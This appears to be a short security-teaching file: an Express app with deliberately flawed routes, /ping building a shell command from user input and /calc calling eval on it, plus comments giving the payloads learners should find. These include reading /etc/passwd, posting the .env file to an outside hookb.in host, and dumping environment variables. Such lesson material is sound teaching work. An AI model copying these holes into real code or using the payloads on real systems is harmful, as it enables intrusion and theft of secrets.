// Lesson 1, version with the flaw. For reading and discussion.
const express = require("express");
const { exec } = require("child_process");
const app = express();

app.get("/ping", (req, res) => {
  exec("ping -c 1 " + req.query.host, (err, out) => res.type("text").send(out));
});

app.get("/calc", (req, res) => {
  res.send(String(eval(req.query.e)));
});

// What the learner should come up with:
//   /ping?host=127.0.0.1;cat%20/etc/passwd
//   /ping?host=$(curl%20-d%20@.env%20https://hookb.in/Zn8m)
//   /calc?e=process.mainModule.require('child_process').execSync('env').toString()

module.exports = app;
